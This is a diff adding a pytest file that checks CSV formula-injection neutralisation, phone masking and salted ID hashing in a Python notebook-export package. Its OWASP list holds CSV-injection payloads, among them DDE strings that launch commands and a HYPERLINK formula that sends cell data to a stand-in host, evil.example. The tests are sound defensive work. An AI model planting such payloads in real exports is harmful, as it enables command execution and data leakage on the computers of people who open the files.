@@ -1,0 +1,89 @@
+"""Formula injection, masking and pseudonyms."""
+
+from __future__ import annotations
+
+import csv
+
+import pandas as pd
+import pytest
+
+from connectly_nb import read_export
+from connectly_nb.safety import hash_ids, mask_phone, neutralize, write_safe_csv
+from tests.conftest import row
+
+# OWASP's CSV-injection payloads, and the characters it lists
+OWASP = [
+    "=cmd|' /C calc'!A0",
+    '=HYPERLINK("http://evil.example?leak="&A1,"Click")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+9)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+@pytest.mark.parametrize("payload", OWASP)
+def test_neutralize_prefixes_every_owasp_payload(payload):
+    out = neutralize(pd.Series([payload, "plain", None]))
+    assert out.iloc[0] == "'" + payload
+    assert out.iloc[1] == "plain"
+    assert pd.isna(out.iloc[2])
+
+
+def test_phone_numbers_keep_their_plus_only_in_the_id_column():
+    ids = pd.Series(["+5511987654321", "+abc", "+1 555", "-5511"])
+    assert neutralize(ids, phone_ids=True).tolist() == [
+        "+5511987654321",
+        "'+abc",
+        "'+1 555",
+        "'-5511",
+    ]
+    assert neutralize(ids).iloc[0] == "'+5511987654321"
+
+
+def test_saved_csv_is_neutral_readable_and_bom_encoded(write_export, tmp_path):
+    ex = read_export(
+        write_export(
+            [
+                row(
+                    customer_external_id="+5511987654321",
+                    campaign_name=OWASP[0],
+                    error_msg=OWASP[4],
+                ),
+                row(customer_external_id="+5511987654322", campaign_name="Promoção"),
+            ]
+        )
+    )
+    path = write_safe_csv(ex, tmp_path / "out.csv")
+    raw = path.read_bytes()
+    assert raw.startswith(b"\xef\xbb\xbf")
+    rows = list(csv.DictReader(raw.decode("utf-8-sig").splitlines()))
+    assert [r["campaign_name"] for r in rows] == ["'" + OWASP[0], "Promoção"]
+    assert rows[0]["error_msg"] == "'" + OWASP[4]
+    assert rows[0]["customer_external_id"] == "+5511987654321"
+    assert rows[0]["sent_at"] == "2024-05-10 20:13:50.682000"
+    again = read_export(path)
+    assert len(again.messages) == 2
+    assert not (tmp_path / ".out.csv.partial").exists()
+
+
+def test_mask_phone_keeps_country_area_and_last_four():
+    masked = mask_phone(["+5511987654321", "+14155552671", "5.51199E+12", None, "ab"]).tolist()
+    assert masked[0] == "+55 11 *****-4321"
+    assert masked[1].startswith("+1 ")
+    assert masked[1].endswith("2671")
+    assert "415" not in masked[1]
+    assert masked[2] == "*********12"
+    assert pd.isna(masked[3])
+    assert masked[4] == "**"  # short ids that are not phone numbers are hidden whole
+
+
+def test_hash_ids_is_consistent_salted_and_hides_the_number(monkeypatch):
+    a = hash_ids(["+5511987654321", "+5511987654321", "+5511000000000"], salt="s1")
+    assert a.iloc[0] == a.iloc[1] != a.iloc[2]
+    assert a.iloc[0].startswith("c_")
+    assert "5511" not in a.iloc[0]
+    assert hash_ids(["+5511987654321"], salt="s2").iloc[0] != a.iloc[0]
+    monkeypatch.setenv("CONNECTLY_NB_SALT", "s1")
+    assert hash_ids(["+5511987654321"]).iloc[0] == a.iloc[0]
